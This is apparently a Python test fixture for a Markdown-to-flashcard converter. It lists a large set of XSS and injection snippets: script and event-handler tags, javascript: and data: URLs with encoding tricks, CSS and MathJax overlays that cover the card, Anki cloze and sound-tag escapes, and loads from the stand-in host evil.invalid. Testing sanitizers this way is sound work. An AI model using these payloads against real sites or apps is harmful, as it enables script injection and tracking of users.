# SPDX-License-Identifier: MIT
"""Snippets of Markdown that try to run a script, load something, or cover the card.

A script would call hit(), a load would go to evil.invalid, and what covers the card is at its centre.
Used by tests/cli/attacks.py and tests/interop/browser.py.
"""
RUN = "hit()"
AWAY = "http://evil.invalid/x"
COVER = "top:0;left:0;width:100%;height:100%"

# Elements that run something, each in a line of text and as a block.
ELEMENTS = (
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AWAY}></SCRIPT>", f"<script\n>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,x#x'/></svg>", f"<svg><image href={AWAY}></svg>",
    f"<math href='javascript:{RUN}'>x</math>", f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<object data='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+'></object>",
    f"<object data={AWAY}></object>", f"<embed src={AWAY}>", f"<embed src='javascript:{RUN}'>", f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='&lt;script&gt;parent.{RUN}&lt;/script&gt;'></iframe>", f"<frameset onload={RUN}><frame src={AWAY}></frameset>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<base href='{AWAY}'>",
    f"<link rel=stylesheet href={AWAY}>", f"<style>@import '{AWAY}';</style>", f"<style>*{{background:url({AWAY})}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY})}}*{{font-family:x}}</style>", f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>", f"<input autofocus onfocus={RUN}>", f"<input type=image src={AWAY}>", f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>", f"<isindex type=image src=1 onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>", f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<details open ontoggle={RUN}>x</details>", f"<keygen autofocus onfocus={RUN}>",
    f"<applet code={AWAY}></applet>", f"<template><img src=x onerror={RUN}></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<title><img src=x onerror={RUN}></title>", f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>", f"<plaintext><img src=x onerror={RUN}>",
    f"<dialog open style='position:fixed;{COVER}'>x</dialog>", f"<canvas style='position:fixed;{COVER}'></canvas>", f"<portal src={AWAY}></portal>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}> -->", f"<![CDATA[><img src=x onerror={RUN}>]]>", f"<?x ><img src=x onerror={RUN}>?>",
    f"<!x><img src=x onerror={RUN}>", f"<<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<b\x0conclick={RUN}>x</b>", f"<b class=x\x0conmouseover={RUN}>x</b>",
    f"<b class='x'onclick={RUN}>x</b>", f"<b class=`onclick={RUN}`>x</b>", f"<my-tag onclick={RUN}>x</my-tag>", f"</p onclick={RUN}>", f"<br onclick={RUN} />",
    f"<table background={AWAY}><tr><td background={AWAY}>x</td></tr></table>", f"<p><table><p title='</table><img src=x onerror={RUN}>'>",
)
# Attributes, on an element that may stand on a card.
ATTRIBUTES = (
    f"<b onclick={RUN}>x</b>", f"<b ONMOUSEOVER='{RUN}'>x</b>", f"<b on='{RUN}'>x</b>", f"<b onanimationstart={RUN} style='animation:x 1s'>x</b>",
    f"<b onpointerenter={RUN}>x</b>", f"<b xmlns:on='x' on:click={RUN}>x</b>", "<b id=qa>x</b>", "<b id=typeans>x</b>", "<img src=x name=MathJax>", "<b contenteditable autofocus>x</b>",
    f"<a href='javascript:{RUN}'>x</a>", f"<a href=JaVaScRiPt:{RUN}>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href='java&Tab;script:{RUN}'>x</a>",
    f"<a href='java&#10;script:{RUN}'>x</a>", f"<a href='&#x1;javascript&colon;{RUN}'>x</a>", f"<a href='&#0000106avascript:{RUN}'>x</a>", f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", f"<a href='view-source:javascript:{RUN}'>x</a>", f"<a href='blob:javascript:{RUN}'>x</a>",
    "<a href='file:///etc/passwd'>x</a>", "<a href='intent:x#Intent;end'>x</a>", "<a href='signal:answer_ease4'>x</a>", "<a href='ms-excel:ofe|u|x'>x</a>", f"<a href='#' ping={AWAY}>x</a>",
    f"<q cite='javascript:{RUN}'>x</q>", f"<img src='javascript:{RUN}'>", f"<img src=x srcset='{AWAY} 2x'>", f"<img src=x lowsrc={AWAY} dynsrc={AWAY} longdesc='javascript:{RUN}'>",
    "<img src=x usemap=#m>", f"<picture><source srcset={AWAY}><img src=x></picture>", f"<video poster={AWAY}></video>", f"<video autoplay src='javascript:{RUN}'></video>",
    "<audio autoplay loop controls></audio>", "<p popover=manual popovertarget=x>x</p>", "<p is=x-y slot=z part=q>x</p>", "<p nonce=x inert>x</p>",
    f"<b style='position:fixed;{COVER}'>x</b>", f"<b style='position:absolute;{COVER};z-index:999'>x</b>", f"<b style='POSITION : sticky;{COVER}'>x</b>",
    f"<b style='p\\6fsition:fixed;{COVER}'>x</b>", f"<b style='posi/**/tion:fixed;{COVER}'>x</b>", f"<b style='&#112;osition:fixed;{COVER}'>x</b>",
    f"<b style='color:red;;position:fixed!important;{COVER}'>x</b>", f"<b style=\"font-family:'x;position:fixed;{COVER};y:'\">x</b>", f"<b style='color:rgb(1;position:fixed;{COVER}'>x</b>",
    "<p style='margin:-9999px 0 0 0;height:19999px'>x</p>", "<b style='transform:scale(99)'>x</b>", "<b style='box-shadow:0 0 0 9999px red'>x</b>", "<b style='outline:9999px solid red'>x</b>",
    "<b style='font-size:9999px'>x</b>", "<b style='font-size:1e9px'>x</b>", "<b style='font:9999px/0 x'>x</b>", "<b style='font-size:calc(9px*9999)'>x</b>", "<b style='font-size:999vmax'>x</b>",
    "<b style='text-shadow:0 300px 0 red,0 0 9999px red'>x</b>", "<p style='text-indent:-9999px'>x</p>", "<p style='letter-spacing:-99em'>xx</p>", "<p style='word-spacing:-99em'>x x</p>",
    "<p style='line-height:0;height:0'>x</p>", "<b style='padding:9999px;background:red'>x</b>", "<b style='border:9999px solid red'>x</b>", "<u style='text-decoration-thickness:9999px'>x</u>",
    "<u style='text-underline-offset:-9999px'>x</u>", "<b style='border-image:linear-gradient(red,red) 1/1/9999px'>x</b>", "<b style='outline-offset:9999px;outline:9999px solid'>x</b>",
    "<b style='zoom:9999'>x</b>", "<b style='scale:99;translate:9px;rotate:9deg'>x</b>", "<b style='-webkit-text-stroke:9999px red'>x</b>", "<b style='inset:0;z-index:2147483647'>x</b>",
    "<b style='margin-top:calc(1px*(0 - 9999))'>x</b>", "<p style='column-rule:9999px solid red'>x y</p>", "<b style='perspective:1px;offset-path:ray(9deg)'>x</b>",
    f"<b style='background:url({AWAY})'>x</b>", f"<b style='background:URL(\"{AWAY}\")'>x</b>", f"<b style='background:u\\72l({AWAY})'>x</b>", f"<b style='background:image-set(\"{AWAY}\" 1x)'>x</b>",
    f"<b style='background:-webkit-image-set(url({AWAY}) 1x)'>x</b>", f"<ul style='list-style-image:url({AWAY})'><li>x</li></ul>", f"<ul style='list-style:url({AWAY})'><li>x</li></ul>",
    f"<b style='border-image:url({AWAY})'>x</b>", f"<b style='cursor:url({AWAY}),auto'>x</b>", f"<b style='filter:url({AWAY}#x)'>x</b>", f"<b style='mask-image:url({AWAY})'>x</b>",
    f"<b style='content:url({AWAY})'>x</b>", f"<b style='--x:url({AWAY});background:var(--x)'>x</b>", f"<b style='shape-outside:url({AWAY});float:left'>x</b>",
    f"<b style='width:expression({RUN})'>x</b>", f"<b style='behavior:url({AWAY})'>x</b>", f"<b style='-moz-binding:url({AWAY})'>x</b>", f"<b style=\"background:'}}*{{x:url({AWAY})\">x</b>",
)
# Markdown, and what Anki puts in place of deletions, sounds and formulas.
MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](<java\nscript:{RUN}>)", f"[x](JAVASCRIPT&colon;{RUN})", f"[x][r]\n\n[r]: javascript:{RUN}", f"<javascript:{RUN}>", f"![x](javascript:{RUN})",
    f"[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)", f"[x](x \"' onclick={RUN} '\")", f"[x](x '\" onclick={RUN} \"')", f"![x\" onerror={RUN} \"](x)", f"![x](x\" onerror={RUN} \")",
    f"![x](<x\" onerror=\"{RUN}>)", f"`<img src=x onerror={RUN}>`", f"```\n<img src=x onerror={RUN}>\n```", f"```x\" onclick={RUN}\n1\n```", f"```html\n<script>{RUN}</script>\n```",
    f"~~~ {{.x\" onclick={RUN} y=\"}}\n1\n~~~", f"| <img src=x onerror={RUN}> |\n|--|\n| <svg onload={RUN}> |", f"[^1]\n\n[^1]: <img src=x onerror={RUN}>", f"==<img src=x onerror={RUN}>==",
    f"> [!note] <img src=x onerror={RUN}>\n> x", f"<details><summary onclick={RUN}>x</summary>y</details>", f"![[x\" onerror={RUN}]]", f"[[x\" onclick={RUN}]]", f"[sound:\" onclick={RUN} \"]",
    f"<div>[sound:{AWAY}.mp3]</div>", f"<b title='[sound:x.mp3] <img src=x onerror={RUN}>'>x</b>", f"<b title='[anki:play:q:0] <img src=x onerror={RUN}>'>x</b>",
    f"<b title=\"{{{{c1::<img src=x onerror={RUN}>}}}}\">x</b>", f"{{{{c1::x <b title=\"}}}} <img src=x onerror={RUN}>\">y</b>", f"{{{{c1::x <b title=\"::<img src=x onerror={RUN}>}}}}\">y</b>",
    f"{{{{c1::<img src=x onerror={RUN}>}}}}", f"{{{{c1::x::<img src=x onerror={RUN}>}}}}", f"{{{{c1::`<img src=x onerror={RUN}>`}}}}", f"{{{{c1::$\\href{{javascript:{RUN}}}{{x}}$}}}}",
    f"$\\href{{javascript:{RUN}}}{{x}}$", f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"\\(\\href{{javascript:{RUN}}}{{x}}\\)", f"<div>\\(\\href{{javascript:{RUN}}}{{x}}\\)</div>",
    f"<div>\\(\\hr<wbr>ef{{javascript:{RUN}}}{{x}}\\)</div>", f"<div>\\(&#92;href{{javascript:{RUN}}}{{x}}\\)</div>", f"<div>\\(\\h<!-- -->ref{{javascript:{RUN}}}{{x}}\\)</div>",
    f"<div>\\(\\hr<b></b>ef{{javascript:{RUN}}}{{x}}\\) {{{{c1::y}}}}</div>", f"$\\hr{{{{c1::ef}}}}{{javascript:{RUN}}}{{x}}$", f"$\\let\\a\\href \\a{{javascript:{RUN}}}{{x}}$",
    f"$\\require{{html}}\\href{{javascript:{RUN}}}{{x}}$", f"$\\def\\a#1{{#1{{javascript:{RUN}}}{{x}}}}\\a\\href$", f"$\\mmlToken{{mi}}[href=\"javascript:{RUN}\"]{{x}}$",
    f"$\\style{{position:fixed;{COVER}}}{{x}}$", f"$\\style{{background:url({AWAY})}}{{x}}$", "$\\cssId{qa}{x}$", "$\\class{x}{y}$", f"$\\bbox[position:fixed;{COVER}]{{x}}$",
    f"$\\bbox[background:url({AWAY})]{{x}}$", f"$\\fcolorbox{{red;position:fixed;{COVER}}}{{red}}{{x}}$", f"$\\mmlToken{{mi}}[style=\"position:fixed;{COVER}\"]{{x}}$",
    f"$\\text{{<img src=x onerror={RUN}>}}$", f"$\\unicode[x\" onclick={RUN}]{{65}}$", f"$\\color{{red;background:url({AWAY})}}{{x}}$", f"$<img src=x onerror={RUN}>$",
    f"<b title='\" {{{{c1::<img src=x onerror={RUN}>}}}}'>x</b>", f"<b title='\" [sound:x.mp3] <img src=x onerror={RUN}>'>x</b>", f"<div>[so<!-- -->und:{AWAY}.mp3]</div>",
    f"[so<!-- -->und:{AWAY}.mp3]", f"[so</i>und:{AWAY}.mp3]", f"\\<!-- -->(\\href{{javascript:{RUN}}}{{x}}\\<!-- -->)", f"$a{{b$ \\href{{javascript:{RUN}}}{{x}} $c}}d$",
    f"- <!-- --> \\(\n  \\href{{javascript:{RUN}}}{{x}}\n  <!-- --> \\)", f"<wbr>\n\\(\n\n<wbr>\n\\href{{javascript:{RUN}}}{{x}}\n\n<wbr>\n\\)",
    f"&lt;img src=x onerror={RUN}&gt;", f"\\<img src=x onerror={RUN}>", f"<img src=\"x`<img src=x onerror={RUN}>\">", f"<a title=\"<img src=x onerror={RUN}>\">x</a>",
)
ALL = ELEMENTS + tuple(f"Text {html} text" for html in ELEMENTS[:16]) + ATTRIBUTES + MARKDOWN


def text():
    """Returns the text whose card N has attack N on its back."""
    return "".join(f"## Attack {n}\n\nA {n}:\n\n{snippet}\n\n" for n, snippet in enumerate(ALL))
